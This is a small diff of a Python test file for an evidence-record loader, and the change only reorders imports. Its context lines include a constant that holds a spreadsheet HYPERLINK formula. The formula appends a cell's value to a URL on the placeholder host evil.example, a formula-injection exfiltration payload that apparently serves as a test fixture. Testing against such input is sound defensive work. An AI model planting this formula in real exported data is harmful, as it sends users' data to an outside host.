@@ -10,8 +10,8 @@ from pathlib import Path
 
 import pytest
 
-from conftest import dossier
 from dossier.evidence.load import read_record
+from hostile.conftest import dossier
 
 RECORD = Path("evidence/ALD-2026-001.md")
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Details")'
